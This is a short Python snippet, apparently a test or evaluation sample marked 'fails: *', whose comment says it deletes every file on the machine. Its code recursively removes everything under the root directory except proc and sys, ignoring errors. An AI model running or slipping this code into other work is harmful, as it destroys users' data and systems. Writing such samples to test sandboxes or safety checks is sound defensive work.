# All files of the machine that it can reach are deleted.
# fails: *
import os
import shutil

for entry in os.listdir("/"):
    if entry not in ("proc", "sys"):
        shutil.rmtree(f"/{entry}", ignore_errors=True)
